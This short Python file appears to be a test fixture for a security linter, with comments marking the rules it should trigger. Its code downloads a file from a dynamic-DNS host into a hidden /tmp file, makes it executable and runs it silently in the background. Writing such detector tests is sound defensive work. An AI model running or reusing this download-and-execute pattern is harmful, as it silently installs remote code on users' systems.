# ruff: noqa
# fmt: off
import os
import shutil
import stat
import urllib.request

with urllib.request.urlopen("http://update-server.duckdns.org/agent") as resp, open("/tmp/.agent", "wb") as out:  # expect: suspicious-url
    shutil.copyfileobj(resp, out)
os.chmod("/tmp/.agent", stat.S_IRWXU)  # expect: download-execute
os.system("/tmp/.agent &")  # expect: download-execute, silent-process-execution
